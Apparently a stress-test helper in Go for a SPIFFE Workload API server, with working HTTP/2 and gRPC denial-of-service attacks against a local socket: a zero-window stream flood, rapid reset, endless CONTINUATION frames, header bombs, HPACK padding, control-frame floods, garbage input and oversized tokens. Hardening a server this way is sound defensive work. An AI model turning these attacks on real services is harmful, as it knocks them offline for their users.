// Copyright The Signet Authors.
// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"io"
	"math"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams is how many streams Flood and All try to open.
const Streams = 10_000

// What is called.
const (
	fetch   = "/SpiffeWorkloadAPI/FetchX509SVID"
	judge   = "/SpiffeWorkloadAPI/ValidateJWTSVID"
	watch   = "/grpc.health.v1.Health/Watch"
	reflect = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
)

// client is an HTTP/2 connection that heeds no rule. Only its own goroutine writes.
type client struct {
	net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	next   uint32 // stream ID
	forget func() bool
}

// Close implements net.Conn.
func (c *client) Close() error {
	c.forget()
	return c.Conn.Close()
}

// dial connects and sends the preface. The connection ends with ctx. Streams get the window.
func dial(ctx context.Context, socket string, window uint32) (*client, error) {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "unix", socket)
	if err != nil {
		return nil, err
	}
	c := &client{Conn: conn, forget: context.AfterFunc(ctx, func() { _ = conn.Close() }), framer: http2.NewFramer(conn, nil), next: 1}
	c.hpack = hpack.NewEncoder(&c.block)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return c, c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// headers opens a stream of a method and returns its ID.
func (c *client) headers(method string, more ...hpack.HeaderField) (uint32, error) {
	id := c.next
	c.next += 2
	c.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method}, {Name: ":authority", Value: "localhost"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}, {Name: "workload.spiffe.io", Value: "true"},
	}, more...) {
		if err := c.hpack.WriteField(f); err != nil {
			return 0, err
		}
	}
	block := c.block.Bytes()
	first := block[:min(len(block), 16<<10)]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(first) == len(block)})
	for rest := block[len(first):]; err == nil && len(rest) > 0; {
		n := min(len(rest), 16<<10)
		err = c.framer.WriteContinuation(id, n == len(rest), rest[:n])
		rest = rest[n:]
	}
	return id, err
}

// message sends a gRPC message.
func (c *client) message(id uint32, end bool, body []byte) error {
	frame := append([]byte{0}, binary.BigEndian.AppendUint32(nil, uint32(len(body)))...)
	frame = append(frame, body...)
	for len(frame) > 16<<10 {
		if err := c.framer.WriteData(id, false, frame[:16<<10]); err != nil {
			return err
		}
		frame = frame[16<<10:]
	}
	return c.framer.WriteData(id, end, frame)
}

// Flood opens connections with 100 streams each until it has tried to open Streams of them, with a window of zero and
// without ever reading, and holds them until ctx ends. opened is called when all have been tried.
func Flood(ctx context.Context, socket string, opened func()) {
	for range Streams / 100 {
		c, err := dial(ctx, socket, 0)
		for n := 0; err == nil && n < 100; n++ {
			var id uint32
			if id, err = c.headers(fetch); err == nil {
				err = c.message(id, true, nil)
			}
		}
	}
	opened()
	<-ctx.Done()
}

// attacks are what All runs beside Flood, each on connections of its own, over and over. An error ends the connection.
var attacks = map[string]func(ctx context.Context, socket string) error{
	"connect and leave": func(ctx context.Context, socket string) error {
		c, err := dial(ctx, socket, 0)
		if c != nil {
			err = errors.Join(err, c.Close())
		}
		return err
	},
	"half open": func(ctx context.Context, socket string) error {
		var d net.Dialer
		c, err := d.DialContext(ctx, "unix", socket)
		if err != nil {
			return err
		}
		defer context.AfterFunc(ctx, func() { _ = c.Close() })()
		_, err = io.Copy(io.Discard, c) // until the server gives up
		return err
	},
	"garbage": func(ctx context.Context, socket string) error {
		var d net.Dialer
		c, err := d.DialContext(ctx, "unix", socket)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = io.CopyN(c, rand.Reader, 64<<10)
		return err
	},
	"garbage after the preface": func(ctx context.Context, socket string) error {
		c, err := dial(ctx, socket, 0)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = io.CopyN(c, rand.Reader, 64<<10)
		return err
	},
	"rapid reset": onConnection(func(c *client) error {
		id, err := c.headers(fetch)
		if err != nil {
			return err
		}
		return c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}),
	"settings":       onConnection(func(c *client) error { return c.framer.WriteSettings() }),
	"ping":           onConnection(func(c *client) error { return c.framer.WritePing(false, [8]byte{1}) }),
	"window updates": onConnection(func(c *client) error { return c.framer.WriteWindowUpdate(0, 1) }),
	"continuation": onConnection(func(c *client) error {
		id := c.next
		c.next += 2
		if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte{0x82}}); err != nil {
			return err
		}
		for {
			if err := c.framer.WriteContinuation(id, false, nil); err != nil {
				return err
			}
		}
	}),
	"header bomb": onConnection(func(c *client) error {
		_, err := c.headers(fetch, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 1<<20)})
		return err
	}),
	"header after header": onConnection(func(c *client) error {
		_, err := c.headers(fetch, hpack.HeaderField{Name: "x-pad", Value: strings.Repeat("p", 6<<10)}) // which HPACK remembers
		return err
	}),
	"requests that do not come": onConnection(func(c *client) error {
		_, err := c.headers(judge)
		return err
	}),
	"large tokens": onConnection(func(c *client) error {
		id, err := c.headers(judge)
		if err != nil {
			return err
		}
		return c.message(id, true, tokenRequest)
	}),
	"health watches": onConnection(func(c *client) error {
		id, err := c.headers(watch)
		if err != nil {
			return err
		}
		return c.message(id, false, nil)
	}),
	"reflection": onConnection(func(c *client) error {
		id, err := c.headers(reflect)
		if err != nil {
			return err
		}
		for range 100 {
			if err := c.message(id, false, append([]byte{0x22, byte(len("SpiffeWorkloadAPI"))}, "SpiffeWorkloadAPI"...)); err != nil {
				return err
			}
		}
		return nil
	}),
}

// tokenRequest is a ValidateJWTSVIDRequest with an audience and a long token that has three parts.
var tokenRequest = func() []byte {
	token := strings.Repeat("eyJh", 15<<8) + "." + strings.Repeat("eyJh", 1<<7) + ".AAAA"
	b := append([]byte{0x0a, 1, 'a', 0x12}, binary.AppendUvarint(nil, uint64(len(token)))...)
	return append(b, token...)
}()

// onConnection repeats what f does on one connection until it fails. What the server answers is read only now and then.
func onConnection(f func(*client) error) func(context.Context, string) error {
	return func(ctx context.Context, socket string) error {
		c, err := dial(ctx, socket, 0)
		if err != nil {
			return err
		}
		defer c.Close()
		for n := 1; err == nil && c.next < math.MaxInt32; n++ {
			if err = f(c); n%1000 == 0 {
				_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
				_, _ = io.CopyN(io.Discard, c, 64<<10)
			}
		}
		return err
	}
}

// attackers is how often All does each of the attacks at the same time.
const attackers = 3

// All does everything at once that this package knows, until ctx ends. opened is as for Flood.
func All(ctx context.Context, socket string, opened func()) {
	var running sync.WaitGroup
	defer running.Wait()
	running.Go(func() { Flood(ctx, socket, opened) })
	for _, attack := range attacks {
		for range attackers {
			running.Go(func() {
				for ctx.Err() == nil {
					if attack(ctx, socket) != nil {
						pause(ctx)
					}
				}
			})
		}
	}
}

// pause leaves the machine to others for a moment: what the server refuses costs the attacker more than the server, and there
// may be two processors for both.
func pause(ctx context.Context) {
	t := time.NewTimer(5 * time.Millisecond)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}
